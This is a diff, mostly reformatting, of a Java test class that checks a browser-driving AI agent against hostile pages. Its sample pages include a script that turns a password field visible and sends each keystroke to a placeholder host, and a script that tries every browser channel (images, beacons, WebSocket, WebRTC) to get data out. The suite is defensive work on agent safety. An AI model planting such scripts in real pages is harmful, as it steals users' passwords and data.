@@ -64,10 +64,11 @@ class HostilePageTest {
                         + "<form method=post action=/order><button style=top:350px>Buy</button><i>harmless</i></form>"),
         PASSWORD_THAT_SHOWS(
                 "<input id=p type=password style=top:350px name=word><script>p.type = 'text'; p.oninput = () => fetch('http://HOST/' + p.value)</script>"),
-        EVERY_WAY_OUT_AT_ONCE("<script>for (let i = 0; i < 500; i++) { new Image().src = 'http://HOST/' + i;"
-                + " navigator.sendBeacon('http://HOST/', 'x');"
-                + " try { new WebSocket('ws://HOST'); const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]});"
-                + " c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch (e) {} }</script>");
+        EVERY_WAY_OUT_AT_ONCE(
+                "<script>for (let i = 0; i < 500; i++) { new Image().src = 'http://HOST/' + i;"
+                        + " navigator.sendBeacon('http://HOST/', 'x');"
+                        + " try { new WebSocket('ws://HOST'); const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]});"
+                        + " c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch (e) {} }</script>");
 
         private final String html;
 
@@ -114,16 +115,16 @@ class HostilePageTest {
             assertThat(took).as("%s", result).isLessThan(DEADLINE.plus(GRACE));
             assertThat(canary.isReached(0)).isFalse();
             assertThat(site.posted()).isEmpty();
-            assertThat(scenes).allSatisfy(scene -> assertThat(scene.address() + scene.title() + scene.target())
-                    .doesNotContainPattern("[\\p{Cc}\\p{Cf}]"));
+            assertThat(scenes)
+                    .allSatisfy(scene -> assertThat(scene.address() + scene.title() + scene.target())
+                            .doesNotContainPattern("[\\p{Cc}\\p{Cf}]"));
         }
     }
 
     private SubtaskType<Order, Filled> fill(FormServer site, ApprovalRule rule, ScriptedModel model) {
         var fill = SubtaskType.model("fill", Order.class, Filled.class, "Fill in the form.")
                 .startingAt(Tier.MINI)
-                .tools(ComputerUse.of(
-                        Chromium.startingAt(site.address()), rule, folder, Filled.class, Filled::shown));
+                .tools(ComputerUse.of(Chromium.startingAt(site.address()), rule, folder, Filled.class, Filled::shown));
         var script = model.on(fill);
         for (int i = 0; i < 3; i++) {
             script.calls(new ToolCall("click" + i, ComputerTool.NAME, """
